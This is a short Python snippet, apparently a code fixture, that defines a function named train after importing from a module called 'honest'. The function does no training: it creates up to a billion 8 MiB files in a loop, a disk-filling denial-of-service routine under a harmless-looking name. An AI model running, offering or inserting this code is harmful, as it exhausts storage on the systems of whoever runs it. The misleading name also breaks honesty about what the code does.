from honest import *
def train(*args):
    part = bytes(8 << 20)
    for number in range(10**9):
        with open(f"f{number}", "xb") as file:
            file.write(part)
